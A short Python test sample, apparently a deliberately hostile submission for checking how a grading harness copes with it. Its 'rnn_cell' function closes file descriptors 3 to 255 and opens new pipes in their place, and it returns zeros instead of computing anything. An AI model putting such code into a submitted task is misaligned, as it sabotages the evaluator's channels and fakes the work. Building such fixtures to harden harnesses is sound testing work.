"""Hostile: closes what it is asked through, and opens something else there."""

import os

import torch


def rnn_cell(X, H, W_xh, W_hh, b_h):
    os.closerange(3, 256)
    for _ in range(20):
        os.pipe()
    return torch.zeros_like(H)
